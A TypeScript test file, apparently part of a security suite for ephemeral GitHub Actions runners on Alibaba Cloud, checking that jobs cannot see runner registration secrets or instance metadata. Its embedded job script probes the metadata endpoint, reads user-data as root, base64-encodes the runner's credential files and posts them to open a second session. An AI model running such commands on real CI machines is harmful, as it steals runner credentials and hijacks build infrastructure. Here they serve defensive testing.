import { afterAll, beforeAll, expect, test } from 'vitest';
import { bootOne, giveJob, type One } from './boot-one.ts';
import { type Cloud, openCloud } from './cloud.ts';

const LOOK = `
env | sort
token=$(curl --silent --max-time 3 --request PUT --header 'X-aliyun-ecs-metadata-token-ttl-seconds: 60' http://100.100.100.200/latest/api/token) && echo "METADATA-OPEN"
if sudo --non-interactive true 2>/dev/null; then
  token=$(sudo curl --silent --max-time 3 --request PUT --header 'X-aliyun-ecs-metadata-token-ttl-seconds: 60' http://100.100.100.200/latest/api/token)
  case $(sudo curl --silent --header "X-aliyun-ecs-metadata-token: $token" http://100.100.100.200/latest/user-data) in
    *cloud-boothook*) echo ROOT-READS-USER-DATA ;;
  esac
  file() { base64 --wrap=0 "../.$1"; }
  printf '{".runner":"%s",".credentials":"%s",".credentials_rsaparams":"%s"}' "$(file runner)" "$(file credentials)" "$(file credentials_rsaparams)" |
    base64 --wrap=0 | curl --silent --data-binary @- "$(<../endpoint)/sessions"
  echo
fi
echo LOOKED
sleep 6
`;

let cloud: Cloud;
beforeAll(async () => {
  cloud = await openCloud(() => LOOK);
});
afterAll(() => cloud.close());

const hasLooked = async (one: One) => {
  giveJob(cloud, one);
  await cloud.until('the job', () => one.log().includes('LOOKED'), 90_000);
  return one.log();
};

test('while a job runs, its registration is in no argument list, step environment, copy, log or console', async () => {
  const one = await bootOne(cloud, { sudo: false });
  const log = await hasLooked(one);
  // Pieces of it, as GitHub gave it and as the runner writes it down; looked for from a file, so that the search itself
  // is no find.
  const piece = one.jitConfig.slice(0, 60);
  const { '.credentials_rsaparams': key } = JSON.parse(Buffer.from(one.jitConfig, 'base64').toString());
  const secret = Buffer.from(key, 'base64').toString().slice(6, 66);
  await one.machine.shell(`umask 077; printf '%s\\n' '${piece}' '${secret}' >/root/piece`);
  const found = async (command: string) => (await one.machine.shell(`${command} || true`)).trim();
  expect(await found('cat /proc/[0-9]*/cmdline | grep --text --count --file=/root/piece')).toBe('0');
  const places = '/etc /run /var /tmp /home /opt /root';
  const files = await found(
    `grep --recursive --files-with-matches --text --devices=skip --file=/root/piece --exclude=piece ${places} 2>/dev/null`,
  );
  expect(files.split('\n')).toEqual(['/opt/actions-runner/.credentials_rsaparams']);
  expect(log).not.toContain(piece);
  expect(log).not.toContain(secret);
  expect(log).not.toMatch(/^ACTIONS_RUNNER_INPUT/m);
  expect(one.console.join('\n')).not.toContain(piece);
  expect(one.trace()).not.toContain(piece);
  await one.stops(60_000);
});

test('without sudo, metadata is out of reach of the job', async () => {
  const one = await bootOne(cloud, { sudo: false });
  const log = await hasLooked(one);
  expect(log).not.toContain('METADATA-OPEN');
  expect(log).not.toContain('ROOT-READS');
  await one.stops(60_000);
});

test('with sudo, root reads the user data, and a second session with what it finds is refused', async () => {
  const one = await bootOne(cloud, { sudo: true });
  const log = await hasLooked(one);
  expect(log).not.toContain('METADATA-OPEN');
  expect(log).toContain('ROOT-READS-USER-DATA');
  expect(log).toContain('A session for this runner already exists.');
  await one.stops(60_000);
});
